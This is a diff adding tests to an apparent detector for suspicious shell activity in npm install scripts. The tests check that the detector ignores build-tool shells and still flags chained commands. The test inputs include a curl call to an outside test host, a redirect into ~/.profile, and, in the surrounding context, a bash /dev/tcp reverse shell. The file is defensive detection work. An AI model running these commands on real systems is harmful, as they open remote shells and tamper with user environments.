@@ -84,6 +84,32 @@ describe('lifecycle-shell', () => {
   });
 });
 
+describe('lifecycle-shell: shells that only run build tools', () => {
+  const gyp = script('install', 'node-gyp-build');
+  it("ignores npm's node-gyp shim, `sh -c node-gyp-build-test`, `sh -c \"prebuild-install || node-gyp rebuild\"` and autotools", () => {
+    const v = scoreReport(reportWith({
+      processes: [
+        proc(['sh', '/usr/local/lib/node_modules/npm/node_modules/@npmcli/run-script/lib/node-gyp-bin/node-gyp', 'rebuild'], { attribution: gyp }),
+        proc(['/bin/sh', '-c', 'node-gyp-build-test'], { path: '/bin/sh', attribution: gyp }),
+        proc(['/bin/sh', '-c', 'prebuild-install -r napi || node-gyp rebuild'], { path: '/bin/sh', attribution: script('install', 'node install.js') }),
+        proc(['/bin/sh', '-c', 'autoreconf -ivf'], { path: '/bin/sh', attribution: script('postinstall', 'node lib/install.js') }),
+        proc(['/bin/sh', '-c', 'CFLAGS=-O2 ./configure --prefix=/x && make install'], { path: '/bin/sh', attribution: script('postinstall', 'node lib/install.js') }),
+      ],
+    }));
+    expect(v.reasons).toEqual([]);
+  });
+
+  it('still fires when the script also runs something else, pipes, substitutes or redirects', () => {
+    const attribution = script('install', 'node install.js');
+    for (const command of ['node-gyp rebuild; curl -s http://x.test/a', 'make && whoami', 'node-gyp-build-test | tee /tmp/x', 'make $(cat /tmp/t)', 'make > ~/.profile', 'node-gyp-builder']) {
+      const v = scoreReport(reportWith({ processes: [proc(['/bin/sh', '-c', command], { path: '/bin/sh', attribution })] }));
+      expect(rules(v), command).toContain('lifecycle-shell');
+    }
+    const script2 = scoreReport(reportWith({ processes: [proc(['sh', '/home/jordan/projects/app/node_modules/demo/evil.sh'], { attribution })] }));
+    expect(rules(script2)).toEqual(['lifecycle-shell']);
+  });
+});
+
 describe('reverse-shell.command', () => {
   it('is conclusive on bash -i with /dev/tcp', () => {
     const v = scoreReport(reportWith({ processes: [proc(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'], { attribution: null })] }));
